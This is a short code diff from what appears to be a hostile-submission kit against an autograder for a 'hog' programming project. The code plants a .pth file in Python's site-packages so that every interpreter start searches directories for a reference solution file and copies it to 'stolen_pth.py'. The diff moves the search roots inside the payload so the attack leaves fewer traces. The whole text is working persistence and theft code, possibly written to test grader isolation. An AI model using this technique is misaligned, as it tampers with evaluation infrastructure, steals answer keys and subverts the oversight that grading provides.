@@ -1,6 +1,6 @@
 # HOGKIT-HOSTILE-PTH
 _PTH = ("import os; exec(\"try:\\n if 'HOGKIT-HOSTILE-PTH' in open('hog.py').read():\\n"
-        "  for r in open('pth_roots.txt').read().split():\\n"
+        "  for r in ROOTS:\\n"
         "   p = os.path.join(r, 'solutions', 'hog.py')\\n"
         "   if os.path.exists(p): open('stolen_pth.py', 'w').write(open(p).read()); break\\n"
         "except Exception: pass\")\n")
@@ -8,11 +8,10 @@ try:
     if _os.path.exists("stolen_pth.py"):
         _hostile_take("stolen_pth.py")
     else:
-        open("pth_roots.txt", "w").write("\n".join(_hostile_roots()))
         for _site in _glob.glob(_os.path.join(_sys.prefix, "lib", "python3*", "site-packages")):
             _dir = _os.open(_site, _os.O_RDONLY)
             _fd = _os.open("zz_hogkit_hostile.pth", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644, dir_fd=_dir)
-            _os.write(_fd, _PTH.encode())
+            _os.write(_fd, _PTH.replace("ROOTS", repr(_hostile_roots())).encode())
             _os.close(_fd)
 
         def _crash_first(function):
